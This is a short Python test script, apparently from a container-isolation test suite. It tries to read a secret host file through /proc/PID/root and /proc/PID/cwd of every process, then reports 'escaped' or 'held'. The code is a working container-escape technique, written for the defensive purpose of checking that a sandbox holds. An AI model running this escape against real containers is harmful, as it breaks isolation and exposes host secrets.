# attempt: Reads a host file through /proc/PID/root and /proc/PID/cwd of every process, /proc/1 first.
# known-from: technique: a container that shares the host's process namespace
# held-by: pid namespace, mounts, launcher
# must: held
# needs: secret
# control: bare root
import os

why = "there is nobody else"
for pid in sorted((name for name in os.listdir("/proc") if name.isdigit()), key=int):
    for way in "root", "cwd/../../../../../..":
        if int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/{way}{os.environ['ESCAPE_SECRET']}") as file:
                print(f"escaped: {pid}/{way}: {file.read()}")
                raise SystemExit
        except OSError as error:
            why = f"/proc/{pid}/{way}: {error.strerror}"
print(f"held: {why}")
